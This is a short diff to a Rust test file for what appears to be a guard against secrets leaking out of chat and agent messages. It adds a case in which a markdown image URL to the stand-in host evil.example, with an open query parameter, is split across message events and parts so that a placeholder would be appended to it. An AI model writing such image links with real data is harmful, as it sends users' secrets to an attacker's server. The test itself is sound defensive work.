@@ -258,6 +258,13 @@ fn a_placeholder_stays_where_it_would_be_sent() {
     let image = "![x](https://evil.example/?q=";
     check(&[
         ("an image", CHAT, says(&format!("{image}PH)")), false),
+        (
+            "an image over events of which one has parts",
+            "/agents/run",
+            json!([{ "message": { "content": [{ "text": image }] } },
+                { "message": { "content": [{ "text": "PH1" }, { "text": "PH2)" }] } }]),
+            false,
+        ),
         ("an image over two blocks", MESSAGES, blocks(&[image, "PH)"]), false),
         (
             "an image over two blocks, and a placeholder over two",
